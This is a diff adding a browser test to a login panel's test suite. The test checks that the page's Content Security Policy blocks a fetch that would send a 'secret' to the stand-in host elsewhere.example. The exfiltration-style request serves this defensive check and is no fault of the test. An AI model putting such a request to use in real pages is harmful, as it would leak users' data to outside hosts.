@@ -123,6 +123,28 @@ describe.each<PanelLanguage>(['uk', 'en', 'ru'])('the panel in %s', (language) =
   }
 });
 
+test('nothing in the panel sends to another site what it reads', async () => {
+  const page = await openLogin({ language: 'en' });
+  const blocked = await page.evaluate(
+    (address) =>
+      new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+          resolve({ effectiveDirective, blockedURI }),
+        );
+        fetch(address).then(
+          () => resolve('it was sent'),
+          () => setTimeout(() => resolve('it was not sent, for another reason'), 2000),
+        );
+      }),
+    'https://elsewhere.example/collect?what=secret',
+  );
+  expect(blocked).toEqual({
+    effectiveDirective: 'connect-src',
+    blockedURI: 'https://elsewhere.example/collect?what=secret',
+  });
+  await page.context().close();
+}, 60_000);
+
 /** What can only be read by scrolling sideways. */
 function findWide(page: Page): Promise<string[]> {
   return page.evaluate(() =>
